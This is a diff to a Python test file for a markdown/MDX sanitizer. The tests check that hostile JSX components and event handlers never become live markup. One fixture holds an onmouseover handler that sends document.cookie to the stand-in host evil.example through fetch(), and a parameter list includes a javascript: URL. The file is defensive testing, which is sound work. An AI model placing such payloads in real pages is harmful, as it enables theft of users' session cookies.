@@ -1,5 +1,5 @@
 """Hostile MDX: components and expressions by the hundred thousand, unclosed, carrying event
-handlers. Each is shown as text (never markup), the report stays short, and each character is
+handlers. None is ever markup, the report stays short, and each character is
 read about once (bench/bench_template_tags.py prints expansion figures)."""
 
 from __future__ import annotations
@@ -29,10 +29,10 @@ def test_floods_of_jsx_are_text_and_the_report_is_capped(body):
 def test_an_event_handler_in_a_component_never_becomes_an_attribute():
     body = '<Chart onmouseover="fetch(`//evil.example/${document.cookie}`)" data={{a: "}"}} />\n'
     expansion = expand_tags(body, MDX)
-    assert [problem.line for problem in expansion.problems] == [1]
+    assert [(problem.line, problem.warning) for problem in expansion.problems] == [(1, True)]
     fragment = markdown_to_fragment(expansion.markdown, "https://example.com/x")
     assert not fragment.xpath("//chart | //*[@onmouseover]")
-    assert fragment.text_content().startswith("<Chart onmouseover=")
+    assert fragment.text_content().strip() == ""  # left out whole: a brace in a value is read
 
 
 @pytest.mark.parametrize("src", ['src="javascript:alert(1)"', "src={evil}",
